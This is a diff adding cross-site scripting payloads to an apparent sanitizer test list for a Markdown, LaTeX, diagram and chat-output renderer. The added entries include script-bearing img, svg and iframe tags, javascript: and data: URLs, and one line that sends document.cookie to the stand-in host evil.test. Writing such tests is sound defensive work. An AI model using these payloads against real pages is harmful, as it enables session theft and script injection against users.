@@ -79,7 +79,17 @@ HOSTILE = [
     "$$\\def\\a{\\a\\a}\\a$$ $\\rule{1000000em}{1000000em}$",
     "$\\pmb{x} \\fcolorbox{red}{blue}{y} \\vec{z} \\sqrt{a} \\overbrace{b} \\cancel{c}$",
     "\\(\\color{red;background:url(http://evil.test/c)}{x}\\)",
+    "$\\frac{<img src=x onerror=run(1)>$ $$\\begin{<svg onload=run(1)>}$$ $\\text{&lt;img src=x onerror=run(1)&gt;$",
+    "$$\\verb|<img src=x onerror=run(1)>| \\char`<script>$$ $x^{\\href{data:text/html,<script>run(1)</script>}{y}}$",
+    # What other pages run: diagrams, previews, cells, sources of an answer
+    '```mermaid\ngraph TD; A["<img src=x onerror=run(1)>"] --> B\nclick A href "javascript:run(1)"\nclick B call run(1)\n```',
+    "```html\n<!doctype html><iframe src='http://evil.test/'></iframe><script>parent.run(1)</script>\n```\n\n```svg\n<svg onload=run(1)/>\n```",
+    "```python\nimport js\njs.run(1); js.fetch('http://evil.test/?' + js.document.cookie)\n```",
+    "<details type=\"tool_calls\" arguments=\"&lt;iframe src=javascript:run(1)&gt;\" result=\"<iframe srcdoc='<script>run(1)</script>'>\"><summary>x</summary></details>",
+    "Read this [1][^1] <source name=\"x\" url=\"javascript:run(1)\"/>\n\n[^1]: <iframe src='data:text/html,<script>parent.run(1)</script>'>\n[1]: javascript:run(1)",
+    "![x](data:text/html,<iframe src=http://evil.test>) <embed src=data:text/html,x> <object data='data:text/html;base64,PHNjcmlwdD4='>",
     # Our own marks
+    "<|python_start|><iframe src=javascript:run(1)><|python_end|><|output_start|>$\\href{javascript:run(1)}{x}$<|output_end|>",
     "<|python_start|><img src=x onerror=run(1)><|python_end|><|output_start|><script>run(1)</script><|output_end|>",
     "\ufdd00\ufdd1 \ufdd099\ufdd1 [a](java\ufdd00\ufdd1script:run(1))",
     "<|python_start|>1<|python_end|>[a](javascript:<|python_start|>run(1)<|python_end|>)",
